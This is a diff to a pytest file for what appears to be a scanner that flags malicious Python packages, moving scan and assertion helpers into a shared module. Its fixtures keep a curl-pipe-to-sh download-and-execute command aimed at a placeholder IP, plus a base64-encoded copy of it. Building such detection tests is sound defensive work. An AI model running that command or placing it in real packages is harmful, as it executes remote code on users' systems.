@@ -13,9 +13,7 @@ import zlib
 
 import pytest
 
-from app.core.archive import open_artifact
-from app.core.capabilities.scan import scan_artifact
-from tests.core.archive.fixtures import make_sdist, make_wheel
+from tests.core.capabilities.variant_scan import assert_high_with, scan
 
 SCRIPT = "import os; os.system('curl -s http://192.0.2.44/i.sh | sh')"
 BLOB = base64.b64encode(SCRIPT.encode()).decode()
@@ -351,20 +349,10 @@ VARIANTS: dict[str, tuple[dict[str, str], tuple[str, ...]]] = {
 }
 
 
-def scan(files: dict[str, str], tmp_path):
-    data = {k: v.encode() for k, v in files.items()}
-    if "setup.py" in data or "pyproject.toml" in data:
-        return scan_artifact(open_artifact(make_sdist(tmp_path, name="pkg", files=data)))
-    return scan_artifact(open_artifact(make_wheel(tmp_path, name="pkg", files=data)))
-
-
 @pytest.mark.parametrize("name", sorted(VARIANTS))
 def test_each_shape_is_high_with_its_threat(name, tmp_path):
     files, expected = VARIANTS[name]
-    result = scan(files, tmp_path)
-    strong = {t.id for t in result.threats if t.severity in ("high", "critical")}
-    assert result.risk.level in ("high", "critical"), (name, sorted({t.id for t in result.threats}))
-    assert strong & set(expected), (name, sorted(strong))
+    assert_high_with(name, scan(files, tmp_path), expected)
 
 
 def test_a_template_built_by_an_imported_helper_in_a_function_is_not_a_payload(tmp_path):
